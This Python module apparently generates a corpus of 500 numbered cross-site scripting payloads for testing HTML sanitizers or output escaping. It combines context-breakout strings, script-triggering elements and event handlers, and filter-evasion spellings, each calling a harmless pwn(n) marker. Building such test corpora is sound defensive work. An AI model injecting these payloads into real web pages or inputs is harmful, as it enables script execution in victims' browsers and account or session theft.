"""Five hundred ways to make a text into a script, each with a number (§): run, it calls ``pwn(number)``; made into an
element, the element has the attribute ``data-pwn``. Made from parts: how to get out of where a text stands × what to
do outside × how to spell it."""

from itertools import product

WAYS_OUT = (
    "", '">', "'>", "</td></tr></table>", "</title>", "</textarea>", "</select>", "</option>", "-->", "</style>", "]]>",
    "\\\">", "</script>", "&quot;>", "}}", "</a>", "</svg>",
)  # fmt: skip
"""From a text, an attribute, a cell, a title, a field, a comment, a style, a JSON text in a script, an escape."""

DEEDS = (
    "<script data-pwn>pwn(§)</script>",
    "<img data-pwn src=x onerror=pwn(§)>",
    "<svg data-pwn onload=pwn(§)>",
    "<svg/data-pwn/onload=pwn(§)>",
    "<body data-pwn onload=pwn(§)>",
    "<a data-pwn href=javascript:pwn(§)>x</a>",
    "<iframe data-pwn src=javascript:pwn(§)>",
    "<input data-pwn autofocus onfocus=pwn(§)>",
    "<details data-pwn open ontoggle=pwn(§)>",
    "<video data-pwn><source onerror=pwn(§)>",
    "<style data-pwn>@import'x'</style>",
    "<link data-pwn rel=stylesheet href=//x.test>",
    "<meta data-pwn http-equiv=refresh content=0;javascript:pwn(§)>",
    "<form data-pwn action=javascript:pwn(§)><button>x",
    "<math data-pwn href=javascript:pwn(§)>x",
    "<object data-pwn data=javascript:pwn(§)>",
    "<base data-pwn href=//x.test>",
    "<template data-pwn><img src=x onerror=pwn(§)></template>",
    "<noscript><p title='</noscript><img data-pwn src=x onerror=pwn(§)>'>",
    "<marquee data-pwn onstart=pwn(§)>",
    "<p data-pwn style=animation-name:x onanimationstart=pwn(§)>",
    "<x data-pwn onpointerenter=pwn(§) style=position:fixed;inset:0>",
    "<dialog data-pwn open onfocusin=pwn(§)><b autofocus>",
    "<svg data-pwn><script>pwn(§)</script></svg>",
    "<svg data-pwn><animate onbegin=pwn(§) attributeName=x>",
    "<script data-pwn src=data:,pwn(§)></script>",
)

SPELLINGS = (
    lambda text: text,
    lambda text: text.replace("<", "<\t", 1) if text.startswith("<a") else text.swapcase().replace("PWN", "pwn"),
    lambda text: text.replace("javascript:", "java&#x09;script:").replace("on", "\x0con", 1),
    lambda text: text.replace("<", "\u003c").replace("=", " = "),
)

WORDS = (
    '" data-pwn onmouseover=pwn(§) x="', "' data-pwn autofocus onfocus=pwn(§) x='", "` data-pwn onload=pwn(§) ",
    "javascript:pwn(§)", "\\u003cimg data-pwn src=x onerror=pwn(§)\\u003e", "&lt;img data-pwn onerror=pwn(§)&gt;",
    "%3Cscript data-pwn%3Epwn(§)%3C/script%3E", "{{ pwn(§) }}", "{% include 'pwn§' %}", "${pwn(§)}",
    '";pwn(§);//', "';pwn(§);//", "\u2028pwn(§)\u2029", "<!--<img data-pwn src=x onerror=pwn(§)>-->",
    "＜img data-pwn src=x onerror=pwn(§)＞", "<<script data-pwn>pwn(§)//<</script>", "<img data-pwn src=x:pwn(§)",
    "\ufeff<img data-pwn src=x onerror=pwn(§)>", "<img/data-pwn/src='x'/onerror=pwn(§)>",
    "--!><img data-pwn src=x onerror=pwn(§)>",
)  # fmt: skip
"""Those that need no way out."""


def payloads(count: int = 500, length: int = 80) -> list[str]:
    """``count`` of them, none longer than ``length``, all kinds among them; a short length leaves only the shortest."""
    spelt = (way + spell(deed) for spell, way, deed in product(SPELLINGS, WAYS_OUT, DEEDS))
    made = [text for text in dict.fromkeys([*WORDS, *spelt]) if len(text) + 3 <= length]
    words = [text for text in WORDS if text in made]
    rest = [text for text in made if text not in WORDS]
    chosen = words + [rest[int(n * len(rest) / (count - len(words)))] for n in range(count - len(words))]
    return [text.replace("§", str(number)) for number, text in enumerate(chosen)]
